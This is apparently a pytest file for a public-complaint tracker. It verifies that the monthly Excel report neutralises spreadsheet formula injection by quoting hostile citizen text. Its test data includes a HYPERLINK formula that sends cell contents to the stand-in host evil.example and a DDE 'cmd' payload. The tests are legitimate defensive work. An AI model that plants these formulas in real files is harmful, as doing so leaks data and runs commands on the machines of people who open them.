"""The monthly workbook never turns a citizen's text into a formula (OWASP CSV injection):
every outside text that starts like a formula is a string cell led by a quote, on both
databases; figures and times yuqing computes stay numbers and dates."""

from __future__ import annotations

import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from tests.tracker.ledger.factory import local
from tracker.metrics import Period
from tracker.models import Department, LedgerEntry
from tracker.reports import build_monthly_report, render

MONTH = Period.month(2025, 9)
AS_OF = local("2025-10-20 09:00")
HOSTILE = ('=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "-1+1", "@SUM(A1)",
           "\t=1", "\r=1", "+1+cmd|' /C calc'!A0")


def neutralised(text: str) -> str:
    """What the sheet must show for ``text``: the text itself after a quote."""
    return "'" + text


def add(session, **values) -> LedgerEntry:
    for key, value in list(values.items()):
        if key.endswith("_at") and isinstance(value, str):
            values[key] = local(value)
    entry = LedgerEntry(**values)
    session.add(entry)
    session.flush()
    return entry


@pytest.fixture
def hostile_month(session, settings):
    """Entries in every list of the workbook, each text column a formula."""
    departments = []
    for index, text in enumerate(HOSTILE):
        dept = Department(name=f"{text}{index}" if text.startswith("\t") else text)
        session.add(dept)
        session.flush()
        departments.append(dept)
    for index, text in enumerate(HOSTILE):
        dept = departments[index].id
        # Overdue and unanswered for three months (超期未办结, 三个月未答复).
        add(session, kind="message", status="handling", title=text, responsible_person=text,
            received_at="2025-06-02 09:00", due_at="2025-06-11 23:59:59",
            lead_department_id=dept)
        # Answered but not published (已答复未公开).
        add(session, kind="message", status="replied", title=text,
            received_at="2025-09-02 09:00", due_at="2025-09-11 23:59:59",
            replied_at="2025-09-05 09:00", lead_department_id=dept)
        # The month's opinions (热点舆情), with their answer.
        add(session, kind="opinion", status="responded", title=text, level="major",
            received_at="2025-09-15 08:00", due_at="2025-09-17 08:00",
            replied_at="2025-09-15 12:00", reply_channel=text[:32], reply_summary=text,
            lead_department_id=dept)
    return build_monthly_report(session, MONTH, settings, as_of=AS_OF)


def test_no_cell_of_the_monthly_workbook_is_a_formula(hostile_month, session, settings):
    book = load_workbook(io.BytesIO(render(hostile_month, "xlsx", session, settings)))
    formulas = [(ws.title, c.coordinate, c.value) for ws in book for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == []
    for title in ("超期未办结", "三个月未答复", "已答复未公开", "热点舆情"):
        sheet = book[title]
        header = [c.value for c in sheet[1]]
        rows = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2,
                                                                           values_only=True)
                if r[0] is not None]
        titles = {r.get("标题", r.get("舆情")) for r in rows}
        assert {neutralised(t) for t in HOSTILE} <= titles, title
        departments = {r.get("责任部门", r.get("牵头部门")) for r in rows}
        assert neutralised(HOSTILE[0]) in departments, title
        if title == "热点舆情":
            assert {neutralised(t[:32]) for t in HOSTILE} <= {r["回应方式"] for r in rows}
            assert {neutralised(t) for t in HOSTILE} <= {r["回应内容"] for r in rows}
            assert [r["回应用时（小时）"] for r in rows] == [4.0] * len(HOSTILE)
        else:
            assert all(isinstance(r["受理时间"], datetime) for r in rows)
            assert all(isinstance(r["编号"], int) for r in rows)
        if title in ("超期未办结", "三个月未答复"):
            assert {neutralised(t) for t in HOSTILE} <= {r["责任人"] for r in rows}
    department_names = {c for row in book["分部门"].iter_rows(values_only=True) for c in row}
    assert neutralised(HOSTILE[0]) in department_names
